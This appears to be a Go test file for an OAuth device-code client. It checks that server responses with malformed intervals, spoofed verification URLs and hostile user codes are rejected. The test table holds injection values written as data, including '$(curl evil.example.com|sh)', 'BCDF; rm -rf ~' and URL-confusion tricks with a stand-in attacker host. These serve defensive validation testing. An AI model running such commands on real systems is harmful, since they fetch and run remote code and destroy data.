package idcs

import (
	"errors"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/credential-idcs/credential-idcs/internal/secret"
)

// The request and answer of https://docs.oracle.com/en-us/iaas/Content/Identity/api-getstarted/DCGT.htm:
// response_type, no authentication, an http address, no interval.
func TestDevice(t *testing.T) {
	d, s := recorder(t, 200, "")
	body := `{"expires_in":300,"device_code":"1111-device-code","user_code":"BCDFGHJK","verification_uri":"http://127.0.0.1/ui/v1/device"}`
	d.Config.Handler = serve(s, &body)
	c := newClient(d.URL)
	c.Proof = Secret{secret.New("not sent")}
	got, err := c.Device(bound(t), "openid offline_access")
	if err != nil {
		t.Fatal(err)
	}
	want := url.Values{"response_type": {"device_code"}, "client_id": {clientID}, "scope": {"openid offline_access"}}
	if diff := cmp.Diff(s.form, want); diff != "" || s.path != "POST /oauth2/v1/device" || s.header.Get("Authorization") != "" {
		t.Errorf("%s %v, got - want +:\n%s", s.path, s.header, diff)
	}
	if got.Code.Reveal() != "1111-device-code" || got.UserCode != "BCDFGHJK" || got.Interval != 5*time.Second ||
		got.Life != 300*time.Second || got.SentAt.IsZero() || got.URL != d.URL+"/ui/v1/device" {
		t.Errorf("got %+v", got)
	}
	for _, tt := range []struct {
		change, to string
		interval   time.Duration
	}{
		{`"user_code"`, `"interval":7,"user_code"`, 7 * time.Second},
		{`"user_code"`, `"interval":"10","user_code"`, 10 * time.Second},
		{`"user_code"`, `"interval":0,"user_code"`, 5 * time.Second},
		{`"user_code"`, `"interval":-1e999,"user_code"`, 5 * time.Second},
		{`"user_code"`, `"interval":1e999,"user_code"`, 60 * time.Second},
		{`"user_code"`, `"interval":[],"user_code"`, 5 * time.Second},
		{`http://127.0.0.1/`, `https://login.example.com/`, 5 * time.Second},

		{`http://127.0.0.1/`, `http://login.example.com/`, 0},
		{`http://127.0.0.1/`, `https://127.0.0.1@evil.example.com/`, 0},
		{`http://127.0.0.1/`, `https://evil.example.com\\@127.0.0.1/`, 0},
		{`http://127.0.0.1/`, `https://evil.example.com#@127.0.0.1/`, 0},
		{`http://127.0.0.1/`, `https://evil.example.com?@127.0.0.1/`, 0},
		{`http://127.0.0.1/`, `https://127.0.0.1/\u001b[2J`, 0},
		{`http://127.0.0.1/`, `javascript:alert(1)//`, 0},
		{`http://127.0.0.1/`, `https:127.0.0.1/`, 0},
		{`BCDFGHJK`, `B\u001b[2J`, 0},
		{`BCDFGHJK`, strings.Repeat("B", 33), 0},
		{`BCDFGHJK`, ``, 0},
		{`BCDFGHJK`, `  `, 0},
		{`BCDFGHJK`, `BCDF GHJK`, 0},
		{`BCDFGHJK`, `$(curl evil.example.com|sh)`, 0},
		{`BCDFGHJK`, `BCDF; rm -rf ~`, 0},
		{`BCDFGHJK`, "`id`", 0},
		{`BCDFGHJK`, `-rf`, 0},
		{`BCDFGHJK`, `BCDF--GHJK`, 0},
		{`BCDFGHJK`, `BCDF-`, 0},
		{`BCDFGHJK`, `BCDF-GHJK`, 5 * time.Second},
		{`BCDFGHJK`, ` bcdf-ghjk-123 `, 5 * time.Second},
		{`1111-device-code`, ``, 0},
		{`300`, `0`, 0},
		{`300`, `-1`, 0},
		{`{`, `{"error":"invalid_request",`, 0},
		{`{`, `<html>{`, 0},
	} {
		was := body
		body = strings.Replace(body, tt.change, tt.to, 1)
		got, err := c.Device(bound(t), "openid")
		if tt.interval == 0 {
			if asError(t, err); strings.Contains(err.Error(), "1111") {
				t.Errorf("%s: the device code is in %v", tt.to, err)
			}
		} else if err != nil || got.Interval != tt.interval {
			t.Errorf("%s: got %+v, %v", tt.to, got, err)
		}
		body = was
	}
	bad, _ := recorder(t, 401, `{"error":"invalid_client"}`)
	c.Domain = bad.URL
	if _, err := c.Device(bound(t), "openid"); !errors.Is(err, ErrConfiguration) {
		t.Errorf("got %v", err)
	}
}

// serve is recorder's handler with a body that changes.
func serve(s *seen, body *string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		s.path, s.header, s.form = r.Method+" "+r.RequestURI, r.Header, r.PostForm
		_, _ = w.Write([]byte(*body))
	})
}

// While a person hasn't agreed yet, the code of the error says how to go on.
func TestDevicePolling(t *testing.T) {
	for _, said := range []string{"authorization_pending", "AUTHORIZATION_PENDING", "slow_down", "Slow_Down", "access_denied", "expired_token"} {
		code := strings.ToLower(said)
		d, _ := recorder(t, 400, `{"error":"`+said+`"}`)
		_, err := newClient(d.URL).Token(bound(t), DeviceCode{secret.New("1111")}, nil)
		if e := expect(t, err, ErrFailure, Settled); e.Code != code {
			t.Errorf("got %q, want %q", e.Code, code)
		}
	}
}
